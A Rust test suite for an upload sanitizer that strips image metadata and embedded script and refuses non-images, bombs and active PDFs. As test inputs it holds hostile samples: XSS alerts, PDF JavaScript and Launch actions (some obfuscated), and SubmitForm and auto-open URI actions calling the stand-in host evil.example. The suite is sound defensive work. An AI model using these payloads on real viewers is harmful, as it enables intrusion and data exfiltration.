//! What is taken, what is refused, and what does not come along.

#![allow(clippy::unwrap_used)]

use std::io::{Cursor, Write};

use attachment::{Accepted, BYTES, Kind, PREVIEW, Refused, accept};
use flate2::Compression;
use flate2::write::ZlibEncoder;
use image::codecs::jpeg::JpegEncoder;
use image::{DynamicImage, ImageFormat, Rgb, RgbImage, Rgba, RgbaImage};

const CANARY: &[u8] = b"canary-53.5511N-9.9937E";

fn holds(bytes: &[u8], what: &[u8]) -> bool {
    bytes.windows(what.len()).any(|it| it == what)
}

/// A picture of which the left upper corner is red and all else grey.
fn drawn(width: u32, height: u32) -> RgbImage {
    RgbImage::from_fn(width, height, |x, y| {
        match x < width / 2 && y < height / 2 {
            true => Rgb([220, 30, 30]),
            false => Rgb([120, 120, 120]),
        }
    })
}

fn jpeg(picture: &RgbImage) -> Vec<u8> {
    let mut bytes = Vec::new();
    let mut encoder = JpegEncoder::new_with_quality(&mut bytes, 90);
    encoder.encode_image(picture).unwrap();
    bytes
}

fn written(picture: &DynamicImage, format: ImageFormat) -> Vec<u8> {
    let mut bytes = Cursor::new(Vec::new());
    picture.write_to(&mut bytes, format).unwrap();
    bytes.into_inner()
}

/// An EXIF segment that says how the camera was held and, in a place for positions, the canary.
fn exif(orientation: u8) -> Vec<u8> {
    let mut tiff = b"MM\0*\0\0\0\x08".to_vec();
    // Two entries: orientation, and the maker's text where positions stand in real ones.
    tiff.extend([0, 2]);
    tiff.extend([0x01, 0x12, 0, 3, 0, 0, 0, 1, 0, orientation, 0, 0]);
    tiff.extend([0x01, 0x0F, 0, 2, 0, 0, 0, CANARY.len() as u8, 0, 0, 0, 38]);
    tiff.extend([0, 0, 0, 0]);
    tiff.extend(CANARY);
    let mut segment = vec![0xFF, 0xE1];
    segment.extend(((tiff.len() + 8) as u16).to_be_bytes());
    segment.extend(b"Exif\0\0");
    segment.extend(tiff);
    segment
}

fn with_exif(jpeg: &[u8], orientation: u8) -> Vec<u8> {
    [&jpeg[..2], &exif(orientation), &jpeg[2..]].concat()
}

fn read(accepted: &Accepted) -> RgbImage {
    image::load_from_memory(&accepted.bytes).unwrap().to_rgb8()
}

#[test]
fn what_a_camera_wrote_beside_the_picture_is_gone_and_the_picture_is_turned_as_it_was_held() {
    let sent = with_exif(&jpeg(&drawn(60, 40)), 6);
    assert!(holds(&sent, CANARY));
    let kept = accept(&sent).unwrap();
    assert_eq!(kept.kind, Kind::Jpeg);
    assert!(!holds(&kept.bytes, CANARY) && !holds(&kept.bytes, b"Exif"));
    let picture = kept.picture.clone().unwrap();
    assert!(!holds(&picture.preview, CANARY) && !holds(&picture.preview, b"Exif"));
    assert_eq!((picture.width, picture.height), (40, 60));
    // Turned to the right: what was the left upper corner is the right upper one.
    let seen = read(&kept);
    assert!(seen.get_pixel(35, 5).0[0] > 180 && seen.get_pixel(5, 5).0[0] < 160);
}

#[test]
fn what_stands_behind_a_picture_or_in_its_comments_is_gone() {
    let page = b"<html><script>alert(1)</script></html>";
    let plain = jpeg(&drawn(60, 40));
    let behind = [&plain[..], page].concat();
    let mut comment = vec![0xFF, 0xFE];
    comment.extend(((page.len() + 2) as u16).to_be_bytes());
    comment.extend(page);
    let within = [&plain[..2], &comment, &plain[2..]].concat();
    for sent in [behind, within] {
        let kept = accept(&sent).unwrap();
        assert!(!holds(&kept.bytes, b"<html>") && !holds(&kept.bytes, b"script"));
    }
}

#[test]
fn a_picture_is_told_by_its_bytes_and_a_drawing_stays_exact() {
    let drawing = DynamicImage::from(drawn(600, 40));
    let kept = accept(&written(&drawing, ImageFormat::Png)).unwrap();
    assert_eq!(kept.kind, Kind::Png);
    assert_eq!(read(&kept), drawn(600, 40));
    let picture = kept.picture.unwrap();
    let preview = image::load_from_memory(&picture.preview).unwrap();
    assert_eq!((preview.width(), preview.height()), (PREVIEW, 32));
    // Small ones are not blown up.
    let small = accept(&written(
        &DynamicImage::from(drawn(20, 10)),
        ImageFormat::Png,
    ))
    .unwrap();
    let preview = image::load_from_memory(&small.picture.unwrap().preview).unwrap();
    assert_eq!((preview.width(), preview.height()), (20, 10));
}

#[test]
fn a_webp_becomes_a_photograph_or_where_it_shines_through_a_drawing() {
    let opaque = written(&DynamicImage::from(drawn(60, 40)), ImageFormat::WebP);
    assert_eq!(accept(&opaque).unwrap().kind, Kind::Jpeg);
    let glass = RgbaImage::from_pixel(60, 40, Rgba([10, 20, 30, 0]));
    let glass = written(&DynamicImage::from(glass), ImageFormat::WebP);
    let kept = accept(&glass).unwrap();
    assert_eq!(kept.kind, Kind::Png);
    let preview = image::load_from_memory(&kept.picture.unwrap().preview).unwrap();
    assert!(preview.to_rgb8().get_pixel(5, 5).0[0] > 240, "on white");
}

#[test]
fn what_is_no_picture_is_refused_whatever_it_is_called() {
    for (sent, refused) in [
        (&b""[..], Refused::Empty),
        (
            b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
            Refused::Unknown,
        ),
        (
            b"<!doctype html><script>alert(1)</script>",
            Refused::Unknown,
        ),
        (b"MZ\x90\0", Refused::Unknown),
        (b"PK\x03\x04", Refused::Unknown),
        (b"GIF89a\x01\0\x01\0", Refused::Moves),
        (b"\x89PNG\r\n\x1a\n", Refused::Broken),
        (b"RIFF\0\0\0\0WEBP", Refused::Broken),
    ] {
        assert_eq!(
            accept(sent),
            Err(refused),
            "{:?}",
            String::from_utf8_lossy(sent)
        );
    }
    assert_eq!(accept(&vec![0xFF; BYTES + 1]), Err(Refused::TooLarge));
}

#[test]
fn a_picture_that_ends_too_early_is_refused() {
    let whole = jpeg(&drawn(600, 400));
    for at in [whole.len() - 2, whole.len() / 2, 200, 3] {
        assert_eq!(accept(&whole[..at]), Err(Refused::Broken), "cut at {at}");
    }
    let whole = written(&DynamicImage::from(drawn(600, 400)), ImageFormat::Png);
    for at in [whole.len() / 2, 40, 12] {
        assert_eq!(accept(&whole[..at]), Err(Refused::Broken), "cut at {at}");
    }
}

/// The chunk of a PNG.
fn chunk(kind: &[u8; 4], data: &[u8]) -> Vec<u8> {
    let mut crc = flate2::Crc::new();
    crc.update(kind);
    crc.update(data);
    let length = (data.len() as u32).to_be_bytes();
    [&length, &kind[..], data, &crc.sum().to_be_bytes()].concat()
}

#[test]
fn a_small_file_that_claims_to_be_a_field_is_refused_before_it_is_unpacked() {
    for (width, height) in [
        (50_000_u32, 50_000_u32),
        (25_000_001, 1),
        (u32::MAX >> 1, u32::MAX >> 1),
    ] {
        let size = [width.to_be_bytes(), height.to_be_bytes()].concat();
        let header = chunk(b"IHDR", &[&size[..], &[8, 2, 0, 0, 0]].concat());
        let bomb = [
            &b"\x89PNG\r\n\x1a\n"[..],
            &header,
            &chunk(b"IDAT", &[]),
            &chunk(b"IEND", &[]),
        ];
        let refused = accept(&bomb.concat()).unwrap_err();
        assert!(
            matches!(refused, Refused::TooManyPixels | Refused::Broken),
            "{width}×{height}: {refused}"
        );
    }
}

#[test]
fn a_picture_that_moves_is_refused() {
    let still = written(&DynamicImage::from(drawn(20, 10)), ImageFormat::Png);
    // After the header: one animation of two frames, played for ever.
    let moving = [
        &still[..33],
        &chunk(b"acTL", &[0, 0, 0, 2, 0, 0, 0, 0]),
        &still[33..],
    ]
    .concat();
    assert_eq!(accept(&moving), Err(Refused::Moves));
}

/// A PDF of one page with these objects besides.
fn pdf(besides: &[u8]) -> Vec<u8> {
    let mut bytes = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n\
        2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n\
        3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n"
        .to_vec();
    bytes.extend(besides);
    let table = bytes.len();
    bytes.extend(b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 4 /Root 1 0 R >>\n");
    bytes.extend(format!("startxref\n{table}\n%%EOF\n").bytes());
    bytes
}

fn packed(objects: &[u8]) -> Vec<u8> {
    let mut packed = ZlibEncoder::new(Vec::new(), Compression::best());
    packed.write_all(objects).unwrap();
    let packed = packed.finish().unwrap();
    let length = packed.len();
    let words = format!(
        "5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {length} >>\nstream\r\n"
    );
    [words.as_bytes(), &packed, b"\nendstream\nendobj\n"].concat()
}

#[test]
fn a_plain_pdf_is_kept_as_it_is() {
    for besides in [
        &b""[..],
        b"4 0 obj\n<< /S /URI /URI (https://example.org) >>\nendobj\n",
        &packed(b"6 0 << /Type /Font >>"),
        // Where it is opened, threads of articles, what a paragraph refers to, a font called F.
        b"4 0 obj\n<< /OpenAction 5 0 R /AA << >> >>\nendobj\n5 0 obj\n<< /S /GoTo /D [3 0 R] >>\nendobj\n",
        b"4 0 obj\n<< /Type /Thread /OpenAction [3 0 R /Fit] >>\nendobj\n5 0 obj\n<< /S /URI >>\nendobj\n",
        b"4 0 obj\n<< /Ref [5 0 R] /F 4 >>\nendobj\n",
        b"4 0 obj\n<< /Font << /F 5 0 R >> >>\nstream\nx\nendstream\nendobj\n5 0 obj\n<< /Type /Font >>\nendobj\n",
    ] {
        let sent = pdf(besides);
        let kept = accept(&sent).unwrap();
        assert_eq!(
            (kept.kind, kept.bytes, kept.picture),
            (Kind::Pdf, sent, None)
        );
    }
}

#[test]
fn a_pdf_that_runs_something_or_holds_other_files_is_refused_wherever_it_says_so() {
    for besides in [
        &b"4 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n"[..],
        b"4 0 obj\n<< /S /J#61va#53cript /JS (app.alert\\(1\\)) >>\nendobj\n",
        b"4 0 obj\n<</S/Launch/F(calc.exe)>>\nendobj\n",
        b"4 0 obj\n<< /Names << /EmbeddedFiles 5 0 R >> >>\nendobj\n",
        b"4 0 obj\n<< /Subtype /FileAttachment /FS 5 0 R >>\nendobj\n",
        b"4 0 obj\n<< /S /SubmitForm /F (http://evil.example) >>\nendobj\n",
        b"4 0 obj\n<< /AcroForm << /XFA 5 0 R >> >>\nendobj\n",
        // In the middle of what calls itself a stream.
        b"4 0 obj\n<< /Length 40 >>\nstream\n5 0 obj\n<< /S /JavaScript >>\nendobj\nendstream\nendobj\n",
        &packed(b"6 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        &packed(b"6 0 << /S /L#61unch >>"),
    ] {
        assert_eq!(accept(&pdf(besides)), Err(Refused::Runs), "{:?}", String::from_utf8_lossy(besides));
    }
}

#[test]
fn a_pdf_that_fetches_something_by_itself_is_refused_however_it_says_so() {
    let page = b"4 0 obj\n<< /OpenAction 6 0 R >>\nendobj\n";
    let in_pack = [
        &page[..],
        &packed(b"6 0 << /S /URI /URI (http://evil.example) >>"),
    ]
    .concat();
    for besides in [
        &b"4 0 obj\n<</OpenAction<</D(>>)/S/URI/URI(http://evil.example)>>>>\nendobj\n"[..],
        b"4 0 obj\n<</Open#41ction 5 0 R>>\nendobj\n5 0 obj\n<</S/URI/URI(http://evil.example)>>\nendobj\n",
        &in_pack,
        b"4 0 obj\n<</OpenAction<</S/GoTo/D[3 0 R]/Next 5 0 R>>>>\nendobj\n",
        b"4 0 obj\n<</Type/Page/AA<</O<</S/URI/URI(http://evil.example)>>>>>>\nendobj\n",
        b"4 0 obj\n<</Type/Page/AA 5 0 R>>\nendobj\n",
        &packed(b"6 0 <</Type/Page/AA 5 0 R>>"),
        b"4 0 obj\n<</OpenAction<</S/GoToR/F(\\\\evil\\x)/D[0/Fit]>>>>\nendobj\n",
        b"4 0 obj\n<</S/GoToE/F(\\\\evil\\x)/D[0/Fit]/T<</R/C/N(x)>>>>\nendobj\n",
        b"4 0 obj\n<</S/Thread/F(\\\\evil\\x)/D 0>>\nendobj\n",
        b"4 0 obj\n<</Length 0/F(http://evil.example/x)>>stream\n\nendstream\nendobj\n",
        b"4 0 obj\n<</Length 0/F<</FS/URL/F(http://evil.example/x)>>>>stream\n\nendstream\nendobj\n",
        b"4 0 obj\n<</Length 0/F 5 0 R>>stream\n\nendstream\nendobj\n5 0 obj\n(\\\\evil\\x)\nendobj\n",
        b"4 0 obj\n<</Length 0/F 5 0 R>>stream\n\nendstream\nendobj\n5 0 obj\n<</UF(\\\\evil\\x)>>\nendobj\n",
        b"4 0 obj\n<</Type/Filespec/F(\\\\evil\\x)>>\nendobj\n",
        b"4 0 obj\n<</Subtype/Form/Length 0/Ref<</F(\\\\evil\\x)/Page 0>>>>stream\n\nendstream\nendobj\n",
    ] {
        assert_eq!(accept(&pdf(besides)), Err(Refused::Runs), "{:?}", String::from_utf8_lossy(besides));
    }
}

#[test]
fn a_pdf_that_cannot_be_looked_through_is_refused() {
    let locked = b"4 0 obj\n<< /Encrypt << /Filter /Standard >> >>\nendobj\n";
    assert_eq!(accept(&pdf(locked)), Err(Refused::Locked));
    let whole = pdf(b"");
    let bomb = pdf(&packed(&vec![b' '; 70 << 20]));
    let odd = b"5 0 obj\n<< /Type /ObjStm /Filter [/LZWDecode /FlateDecode] >>\nstream\n0\nendstream\nendobj\n";
    let odd = pdf(odd);
    let garbled = pdf(b"5 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nnot packed\nendstream\nendobj\n");
    let nowhere = String::from_utf8(whole.clone())
        .unwrap()
        .replace("startxref\n", "startxref\n9");
    // Each beginning of a stream would have what comes before it read again.
    let begins = pdf(&b"stream/".repeat(700_000));
    for broken in [
        &begins,
        &whole[..whole.len() / 2],
        b"%PDF-1.7\n%%EOF",
        b"%PDF-\n<html>",
        &bomb,
        &odd,
        &garbled,
        nowhere.as_bytes(),
    ] {
        assert_eq!(accept(broken), Err(Refused::Broken));
    }
}

#[test]
fn no_bytes_make_looking_at_them_fail() {
    let seeds = [
        jpeg(&drawn(24, 16)),
        written(&DynamicImage::from(drawn(24, 16)), ImageFormat::Png),
        written(&DynamicImage::from(drawn(24, 16)), ImageFormat::WebP),
        pdf(&packed(b"6 0 << /Type /Font >>")),
    ];
    // The same sequence each time.
    let mut state = 7_u64;
    let mut next = |below: usize| {
        state = state
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1);
        (state >> 33) as usize % below
    };
    for seed in &seeds {
        for _ in 0..300 {
            let mut bytes = seed.clone();
            for _ in 0..=next(4) {
                let at = next(bytes.len());
                bytes[at] = next(256) as u8;
            }
            bytes.truncate(bytes.len() - next(bytes.len().min(40)));
            // Whatever it says.
            let _ = accept(&bytes);
        }
    }
}
